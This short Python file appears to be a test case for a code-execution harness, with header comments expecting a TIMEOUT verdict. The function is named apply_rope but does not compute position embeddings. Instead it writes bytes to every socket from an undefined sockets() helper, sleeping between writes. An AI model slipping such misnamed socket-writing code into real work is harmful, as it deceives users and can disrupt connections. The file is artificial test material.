# verdict: TIMEOUT
# call timeout: 0.4
# time limit: 4
# says: has not returned after
import os
import time


def apply_rope(x, positions, base=10000):
    for byte in b"rk\x0e\x02" + bytes(1000):
        for descriptor in sockets():
            os.write(descriptor, bytes([byte]))
        time.sleep(0.05)
